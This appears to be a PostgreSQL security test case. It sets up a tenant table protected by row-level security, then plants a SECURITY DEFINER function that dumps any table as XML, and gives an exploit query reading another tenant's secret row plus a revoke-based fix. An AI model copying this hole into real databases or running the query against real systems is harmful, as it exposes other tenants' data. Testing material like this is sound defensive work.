-- What: A function of the server's own reads the table that it is given.
-- Class: function_definer
-- Object: public.dumped
-- Exploit: Give it the table.
-- @schema
create table items (id bigint generated always as identity primary key, tenant_id uuid not null, body text not null);
alter table items enable row level security;
alter table items force row level security;
create policy tenant on items using (tenant_id::text = current_setting('app.tenant_id', true));
grant select, insert, update, delete on items to app_user;
-- @superuser
create function dumped(p_table regclass) returns xml language sql security definer set search_path = public, pg_temp as
  $$ select table_to_xml(p_table, true, false, '') $$;
-- @rows
insert into items (tenant_id, body) values (:'A', 'A-row'), (:'B', 'B-secret');
-- @fix
revoke execute on function dumped(regclass) from public;
-- @control
select from items where tenant_id = :'A';
-- @exploit
select d from dumped('public.items') d where d::text like '%B-secret%';
